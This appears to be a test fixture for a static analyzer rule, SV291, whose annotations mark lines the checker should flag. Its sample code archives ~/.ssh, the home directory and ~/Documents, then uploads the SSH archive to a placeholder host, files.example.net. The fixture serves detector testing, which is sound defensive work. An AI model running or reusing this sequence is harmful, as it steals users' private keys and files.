import os
import shutil
import subprocess
import tarfile

import requests

z = shutil.make_archive("/tmp/b", "zip", os.path.expanduser("~/.ssh"))  # want "SV291: archives ~/.ssh in a file that sends data"
with tarfile.open("/tmp/h.tgz", "w:gz") as tf:
    tf.add(os.path.expanduser("~"))  # want "SV291: archives ~ in a file"
subprocess.run("tar czf /tmp/d.tgz ~/Documents", shell=True)  # want "SV291: archives tar czf"
requests.post("https://files.example.net/up", files={"f": open(z, "rb")})
